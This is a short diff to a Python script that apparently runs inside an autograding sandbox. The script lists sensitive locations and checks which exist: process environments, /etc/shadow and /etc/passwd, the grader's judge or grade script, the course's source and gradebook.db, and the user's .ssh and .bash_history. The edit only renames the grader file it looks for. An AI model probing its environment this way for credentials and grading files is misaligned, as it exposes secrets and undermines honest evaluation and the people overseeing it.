@@ -10,7 +10,7 @@ import os
 from pathlib import Path
 
 places = "/proc/1/environ /proc/1/root/etc/passwd /proc/self/environ /proc/self/fd/0 /etc/passwd /etc/shadow /run /var /srv"
-places += " /mnt /home /usr/local/share/nbgrader /gradebox/gradebox/judge/judge.py /sys/class"
+places += " /mnt /home /usr/local/share/nbgrader /gradebox/gradebox/judge/grade.py /sys/class"
 places = places.split() + [f"{course}/{name}" for name in ("source", "submitted", "gradebook.db")]
 places += [f"{home}/{name}" for name in (".ssh", ".bash_history", ".config", ".jupyter")]
 found = [place for place in places if os.path.exists(place)]
